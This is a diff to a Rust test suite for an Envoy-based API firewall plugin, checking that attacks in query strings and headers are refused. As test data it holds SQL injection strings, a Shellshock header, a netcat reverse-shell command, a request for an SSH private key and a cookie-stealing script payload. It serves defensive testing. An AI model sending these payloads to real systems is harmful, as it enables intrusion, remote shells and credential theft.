@@ -59,9 +59,11 @@ fn each_class_is_blocked_wherever_it_hides() {
         "passwd",
     );
     blocked(
-        &get("/api/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow"),
+        // (`;cat /etc/shadow` is now a sensitive file first: traversal is tried before
+        // command injection.)
+        &get("/api/ping?host=127.0.0.1%3Bwhoami"),
         "blocked_command_injection",
-        "shadow",
+        "whoami",
     );
     // A cookie's name (cookies are always screened, names before values).
     let r = envoy
@@ -227,5 +229,113 @@ fn multipart_uploads_are_screened_field_by_field_and_unreadable_ones_refused() {
     assert!(
         stats.contains("wasmcustom.api_guard.policy.api.denied.malformed_multipart: 1"),
         "{stats}"
+    );
+}
+
+/// Every request header is screened by default (issue 13): an attack in a header no policy
+/// lists is refused before the upstream; browser headers, credentials and a header the
+/// policy skips pass, and reach the upstream as sent.
+#[test]
+fn headers_are_screened_by_default() {
+    let up = Upstream::start("screening-headers");
+    let config = json!({
+        "policies": {
+            "api": {"screening": {"skip": ["header.x-raw-filter"]}}
+        }
+    });
+    let envoy = Envoy::start(
+        EnvoyConfig::load("envoy/envoy.yaml")
+            .with_plugin_config(&config.to_string())
+            .with_upstreams(&[up.addr]),
+    );
+    let r = envoy
+        .request("GET", "/api/items")
+        .header("user-agent", "app/1.0")
+        .header("x-tenant", "acme' OR '1'='1")
+        .send();
+    blocked(&r, "blocked_sqli", "acme");
+    let r = envoy
+        .request("GET", "/api/items")
+        .header("user-agent", "app/1.0")
+        .header("x-forwarded-host", "() { :;}; /bin/bash -c id")
+        .send();
+    blocked(&r, "blocked_command_injection", "bash");
+    assert!(
+        up.requests().is_empty(),
+        "a blocked request reached the upstream"
+    );
+    let r = envoy
+        .request("GET", "/api/items?page=2")
+        .header("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36")
+        .header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
+        .header("accept-language", "de-DE,de;q=0.9,en;q=0.8")
+        .header("sec-ch-ua", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\"")
+        .header("if-none-match", "W/\"5e15153d-120f\"")
+        .header("authorization", "Bearer ' or 1=1--")
+        .header("x-raw-filter", "<script>kept</script>")
+        .send();
+    assert_eq!(r.status, 200, "{}", r.text());
+    let seen = up.requests();
+    assert_eq!(seen.len(), 1);
+    let header = |name: &str| {
+        seen[0]
+            .headers
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, v)| v.clone())
+    };
+    assert_eq!(
+        header("x-raw-filter").as_deref(),
+        Some(&b"<script>kept</script>"[..])
+    );
+    assert_eq!(
+        header("sec-ch-ua").as_deref(),
+        Some(&b"\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\""[..])
+    );
+}
+
+/// One family per class that the first round missed, refused through Envoy with its class's
+/// code: a command line without a separator, a sensitive file outside a traversal, SQL
+/// without a quote breakout, script without a tag, a scanner from the CRS list.
+#[test]
+fn new_families_are_blocked_through_envoy() {
+    let (envoy, up) = start();
+    let get = |path: &str| {
+        envoy
+            .request("GET", path)
+            .header("user-agent", "app/1.0")
+            .send()
+    };
+    blocked(
+        &get("/api/run?cmd=nc%20-e%20/bin/sh%2010.0.0.1%204444"),
+        "blocked_command_injection",
+        "nc",
+    );
+    blocked(
+        &get("/api/files?name=/home/app/.ssh/id_rsa"),
+        "blocked_path_traversal",
+        "id_rsa",
+    );
+    blocked(
+        &get("/api/items?id=(CASE%20WHEN%203337%3D5369%20THEN%2011%20ELSE%20NULL%20END)"),
+        "blocked_sqli",
+        "CASE",
+    );
+    blocked(
+        &get("/api/items?q=document.location%3D%27//x/%27%2Bdocument.cookie"),
+        "blocked_xss",
+        "cookie",
+    );
+    let r = envoy
+        .request("GET", "/api/items")
+        .header(
+            "user-agent",
+            "Mozilla/5.0 (compatible; Detectify) +https://detectify.com/bot/",
+        )
+        .send();
+    blocked(&r, "bad_bot", "Detectify");
+    assert!(
+        up.requests().is_empty(),
+        "a blocked request reached the upstream"
     );
 }
